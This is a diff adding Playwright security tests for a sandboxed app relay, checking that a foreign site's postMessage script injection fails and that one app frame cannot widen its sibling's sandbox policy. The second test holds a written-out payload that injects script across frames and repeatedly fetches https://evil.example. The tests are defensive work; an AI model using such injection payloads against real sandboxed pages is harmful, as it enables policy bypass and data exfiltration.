@@ -1,4 +1,6 @@
 import { mkdtempSync, writeFileSync } from "node:fs";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { expect, test } from "@playwright/test";
@@ -125,3 +127,112 @@ for (const mode of ["isolated", "opaque"] as const) {
     }
   });
 }
+
+/** Serves HTML without any security header, as a plain static host does. */
+async function serve(html: (path: string) => string) {
+  const server = createServer(({ url = "" }, response) => {
+    response.writeHead(200, { "Content-Type": "text/html" }).end(html(url));
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  const { port } = server.address() as AddressInfo;
+  return { origin: `http://127.0.0.1:${port}`, close: () => server.close() };
+}
+
+test("the sandbox page of a static host takes no document from another site", async ({ page }) => {
+  const host = await serve((path) =>
+    path.startsWith("/sandbox.html") ? sandboxPage(false) : "<title>Page</title>",
+  );
+  const html = "<script>localStorage.setItem('taken', '1')</script>";
+  const message = JSON.stringify({
+    method: "ui/notifications/sandbox-resource-ready",
+    params: { policy: "", html },
+  }).replaceAll("<", "\\u003c");
+  const other = await serve(
+    () => `<button onclick="opened = window.open(address)">Open</button>
+<script>const address = "${host.origin}/sandbox.html?host=" + encodeURIComponent(origin);
+const frame = document.createElement("iframe"); frame.src = address; document.body.append(frame);
+let opened, sent = 0;
+setInterval(() => {
+  for (const each of [frame.contentWindow, opened]) each?.postMessage(${JSON.stringify(message)}, "*");
+  if (opened) document.title = "sent " + ++sent;
+}, 50);</script>`,
+  );
+  await page.goto(other.origin);
+  const popup = page.waitForEvent("popup");
+  await page.getByRole("button", { name: "Open" }).click();
+  const opened = await popup;
+  await opened.waitForLoadState();
+  await page.frameLocator("iframe").locator("body").waitFor();
+  await expect(page).toHaveTitle(/sent \d\d/);
+  expect(await opened.evaluate(() => localStorage.getItem("taken"))).toBeNull();
+  expect(opened.frames()).toHaveLength(1);
+  expect(page.frames()).toHaveLength(2);
+  host.close();
+  other.close();
+});
+
+/** Of two frames of an app, one gives the sandbox page of the other a policy of its choice, and uses it. */
+const widens = `<!doctype html><script>
+const query = new URLSearchParams(parent.location.search);
+query.set("policy", JSON.stringify({ profile: "lax", csp: { connectDomains: ["https://evil.example"] } }));
+const run = (code) => {
+  const script = document.createElement("script");
+  script.textContent = code;
+  parent.document.body.append(script);
+};
+for (let at = 0; at < top.length; at++) if (top[at] !== parent) run(
+  "const other = top[" + at + "]; other.document.body.append(Object.assign(other.document.createElement('script'), " +
+  "{ textContent: 'location.search = " + JSON.stringify(query.toString()) + "' }));" +
+  "setInterval(() => { other.fetch('https://evil.example/widened'); }, 50);");
+</script>`;
+
+test("an app does not choose the policy of its sandbox page", async ({ page }) => {
+  const pageDir = mkdtempSync(join(tmpdir(), "app-policy-"));
+  const meta = `<meta http-equiv="Content-Security-Policy" content="${metaContentSecurityPolicy([])}">`;
+  writeFileSync(join(pageDir, "index.html"), `<!doctype html>${meta}<title>Page</title>`);
+  const relay = await createRelay({ port: 0, pageDir });
+  const contacted: string[] = [];
+  await page.route("https://evil.example/**", (route) => {
+    contacted.push(route.request().url());
+    return route.abort();
+  });
+  await page.goto(`${relay.origin}/`);
+  const [apps] = await page.evaluate(() =>
+    performance
+      .getEntriesByType("navigation")
+      .flatMap((entry) => (entry as PerformanceNavigationTiming).serverTiming)
+      .flatMap(({ name, description }) => (name === "apps" ? [description] : [])),
+  );
+  const { url, sandbox } = await locateSandbox({
+    appsOrigin: apps,
+    page: `${relay.origin}/`,
+    policy: appPolicy(undefined, "specification"),
+    secret: "secret",
+    server: "server",
+    uri: "ui://widens",
+  });
+  await page.evaluate(
+    async ({ url, sandbox }) => {
+      for (const name of ["first", "second"]) {
+        const frame = document.createElement("iframe");
+        frame.setAttribute("sandbox", sandbox);
+        frame.src = url;
+        frame.title = name;
+        const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
+        document.body.append(frame);
+        await loaded;
+      }
+    },
+    { url, sandbox },
+  );
+  const refused = page.waitForResponse((response) => response.url().includes("lax"));
+  await page.evaluate((html) => {
+    const method = "ui/notifications/sandbox-resource-ready";
+    const [first] = document.querySelectorAll("iframe");
+    first?.contentWindow?.postMessage(JSON.stringify({ method, params: { html } }), "*");
+  }, widens);
+  expect((await refused).status()).toBe(403);
+  await page.waitForTimeout(300);
+  expect(contacted).toEqual([]);
+  await relay.close();
+});
